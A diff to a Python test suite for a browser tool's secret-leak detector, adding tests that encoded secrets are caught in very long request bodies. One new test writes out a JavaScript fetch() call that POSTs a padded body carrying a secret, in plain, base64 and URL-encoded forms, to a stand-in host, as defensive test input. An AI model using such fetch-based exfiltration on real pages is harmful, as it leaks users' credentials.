@@ -9,7 +9,7 @@ from dataclasses import replace
 from urllib.parse import quote, quote_plus, urlencode
 
 import pytest
-from hypothesis import given, settings
+from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from handrail.devices.browser.confidential import Confidential, encodings
@@ -139,7 +139,10 @@ async def test_what_went_through_a_socket_can_only_be_told(driver: Driver) -> No
     assert (told.code, SECRET in repr(told)) == ("refused", False)
 
 
-async def test_what_is_too_long_to_be_searched_is_for_the_readers_of_everything(driver: Driver) -> None:
+async def test_what_is_too_long_to_be_searched_is_for_the_readers_of_everything(
+    driver: Driver, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(driver.device._egress.confidential, "most_searched", 1_000_000)
     away = driver.site.url("/long", "localhost")
     await driver.open("<p>x", refuse=strays)
     driver.site.asked.clear()
@@ -152,6 +155,20 @@ async def test_what_is_too_long_to_be_searched_is_for_the_readers_of_everything(
         ("unread", "perhaps the secret 'pw'")
     ] * 2
     assert SECRET not in repr(asked)
+
+
+async def test_what_is_long_is_searched_and_goes_anywhere_if_nothing_is_in_it(driver: Driver) -> None:
+    away = driver.site.url("/long", "localhost")
+    await driver.open("<p>x", refuse=strays)
+    driver.site.asked.clear()
+    script = "fetch('{}',{{method:'POST',mode:'no-cors',body:'x'.repeat(2500000)+{}}}).then(()=>'left',()=>'held')"
+    assert await driver.js(script.format(away, "''")) == "left"
+    for written in (json.dumps(SECRET), f"btoa({json.dumps(SECRET)})", f"encodeURIComponent({json.dumps(SECRET)})"):
+        assert await driver.js(script.format(away, written)) == "held"
+    asked = [request for request in driver.gate.asked if request.url.endswith("/long")]
+    assert [(request.body_sha256, [item.certain for item in request.carries]) for request in asked] == [
+        ("withheld", []), *[("withheld", [True])] * 3,
+    ]  # fmt: skip
 
 
 async def test_what_is_short_does_not_wait_for_what_is_long(driver: Driver) -> None:
@@ -170,8 +187,10 @@ def test_of_many_values_only_a_shorter_text_is_searched() -> None:
     held = Confidential()
     for number in range(200):
         held.hidden(PLACE, f"value number {number}")
-    assert held.searchable("x" * 100_000)
-    assert not held.searchable("x" * 1_000_000)
+    assert held.readable("x" * 100_000)
+    assert not held.readable("x" * 1_000_000)
+    assert held.searchable("x" * 1_000_000)
+    assert not held.searchable("x" * 6_000_000)
     assert {item.readers for item in held.suspected()} == {frozenset({PLACE})}
 
 
@@ -208,6 +227,20 @@ def test_a_value_is_found_however_it_is_written(way: str, value: str) -> None:
     assert [item.name for item in held.carried((f"https://x.example/?a=b&c={WAYS[way](value)}&d=e",))] == [
         "the secret 's'"
     ]
+
+
+@pytest.mark.parametrize("way", sorted(WAYS.keys() - {
+    "in a form within a form", "json in json", "json in an address", "base64 with blanks", "base64 in lines",
+    "letters with nothing between", "letters with blanks between",
+}))  # fmt: skip
+@settings(max_examples=20)
+@example(value="0\xa0\xa0\xa0ÿ\xa0¾0")  # + and / in one base64
+@given(value=VALUES.map(lambda value: value[:24]))
+def test_a_long_text_is_searched_for_each_way_of_writing_by_itself(way: str, value: str) -> None:
+    held = Confidential(most_read=10)
+    held.learn(FixedSecrets({"s": Secret(frozenset({PLACE}), value)}))
+    assert held.carried((f"{'x' * 10} {WAYS[way](value)} y",))
+    assert not held.carried((f"{'x' * 10} {WAYS[way]('nothing of the kind')} y",))
 
 
 @pytest.mark.parametrize("way", ["as it is", "in the path", "plus signs", "json", "base64", "base64 for addresses",
